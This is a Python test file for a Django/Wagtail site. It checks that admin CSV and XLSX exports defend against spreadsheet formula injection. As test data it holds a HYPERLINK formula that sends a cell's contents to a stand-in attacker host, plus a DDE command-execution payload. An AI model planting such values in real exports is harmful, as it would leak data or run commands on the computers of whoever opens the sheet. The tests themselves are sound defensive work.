"""Wagtail's own admin exports (listings, site history) neutralise spreadsheet formulas like ours do."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from tests.factories import PersonFactory, UserFactory
from website.spreadsheet_exports import GUARDED

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")'
HOSTILE_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def cells_of(response, export_format):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_guarded(cells, *texts):
    for text in texts:
        assert "'" + text in cells, (text, cells)
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(PREFIXES)), cell


def test_wagtails_export_methods_are_still_the_ones_we_guard():
    for name in ("preprocess_field_value", "get_heading"):
        assert getattr(getattr(SpreadsheetExportMixin, name), GUARDED, False), name


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_people_listing_export_is_guarded(coordinator, export_format):
    PersonFactory(display_name=HOSTILE_PERSON)
    PersonFactory(display_name="-1+2")
    client = Client()
    client.force_login(coordinator)
    response = client.get(f"/admin/people/?export={export_format}")
    assert response.status_code == 200
    assert_guarded(cells_of(response, export_format), HOSTILE_PERSON, "-1+2")


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_site_history_export_is_guarded(export_format):
    admin = UserFactory(username="site-admin", is_superuser=True, is_staff=True)
    mallory = UserFactory(username="mallory", first_name=HOSTILE_NAME, last_name="")
    person = PersonFactory(display_name="\tTabbed name")
    log(instance=person, action="wagtail.edit", user=mallory)
    client = Client()
    client.force_login(admin)
    response = client.get(f"/admin/reports/site-history/?export={export_format}")
    assert response.status_code == 200
    assert_guarded(cells_of(response, export_format), HOSTILE_NAME, "\tTabbed name")
